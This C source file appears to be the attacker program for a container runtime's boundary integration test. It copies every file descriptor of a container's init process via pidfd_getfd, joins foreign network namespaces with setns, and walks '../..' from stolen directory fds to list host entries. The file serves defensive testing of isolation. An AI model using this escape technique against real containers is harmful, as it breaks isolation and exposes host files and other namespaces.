/* fd_thief: the attacker of tests/integration/boundary_attack3.bats, run
 * inside a container with CAP_SYS_PTRACE (and CAP_SYS_ADMIN for setns).
 * It takes every fd of process PID (the waiting init, pid 1 of a created
 * container) with pidfd_getfd(2), which needs ptrace rights over PID and no
 * stop, and reports what each is; an fd of a network namespace that is not
 * the thief's own is joined with setns(2), and from a directory fd it walks
 * up ("../..", which the fd's own mount does not stop) and lists what is
 * there.
 *
 *   fd_thief PID
 *
 * Prints one line per fd taken: "fd N: LINK" (LINK is what
 * /proc/self/fd/M of the copy names), then for a network namespace other
 * than its own "setns N: ok net:[INODE]" or "setns N: ERRNO", for a
 * directory "walk N: NAME NAME ..." (the first entries of ../.. from it),
 * and ends with "done". "pidfd_open: ERRNO" when PID cannot be reached. Built
 * -static to run in the busybox rootfs. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
# define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
# define SYS_pidfd_getfd 438
#endif

static void
link_of_path (const char *path, char *buf, size_t size)
{
  ssize_t n = readlink (path, buf, size - 1);
  if (n < 0)
    snprintf (buf, size, "%s", strerror (errno));
  else
    buf[n] = '\0';
}

static void
link_of (int fd, char *buf, size_t size)
{
  char p[64];
  snprintf (p, sizeof p, "/proc/self/fd/%d", fd);
  link_of_path (p, buf, size);
}

/* The first entries of ../.. from the directory fd (taken from fd n). */
static void
walk (int n, int fd)
{
  int up = openat (fd, "../..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  DIR *d = up >= 0 ? fdopendir (up) : NULL;
  struct dirent *de;
  int k = 0;

  if (d == NULL)
    {
      printf ("walk %d: %s\n", n, strerror (errno));
      if (up >= 0)
        close (up);
      return;
    }
  printf ("walk %d:", n);
  while ((de = readdir (d)) != NULL && k < 8)
    if (de->d_name[0] != '.')
      printf (" %s", de->d_name), k++;
  printf ("\n");
  closedir (d);
}

int
main (int argc, char **argv)
{
  char own[256], link[256];
  int pidfd;

  if (argc != 2)
    {
      fprintf (stderr, "usage: fd_thief PID\n");
      return 2;
    }
  link_of_path ("/proc/self/ns/net", own, sizeof own);
  pidfd = (int) syscall (SYS_pidfd_open, atoi (argv[1]), 0);
  if (pidfd < 0)
    {
      printf ("pidfd_open: %s\n", strerror (errno));
      return 1;
    }
  for (int n = 0; n < 256; n++)
    {
      int fd = (int) syscall (SYS_pidfd_getfd, pidfd, n, 0);
      if (fd < 0)
        {
          if (errno != EBADF)
            printf ("fd %d: getfd %s\n", n, strerror (errno));
          continue;
        }
      link_of (fd, link, sizeof link);
      printf ("fd %d: %s\n", n, link);
      if (strncmp (link, "net:[", 5) == 0 && strcmp (link, own) != 0)
        {
          if (setns (fd, CLONE_NEWNET) == 0)
            {
              char now[256];
              link_of_path ("/proc/thread-self/ns/net", now, sizeof now);
              printf ("setns %d: ok %s\n", n, now);
            }
          else
            printf ("setns %d: %s\n", n, strerror (errno));
        }
      struct stat st;
      if (fstat (fd, &st) == 0 && S_ISDIR (st.st_mode))
        walk (n, fd);
      close (fd);
    }
  printf ("done\n");
  return 0;
}
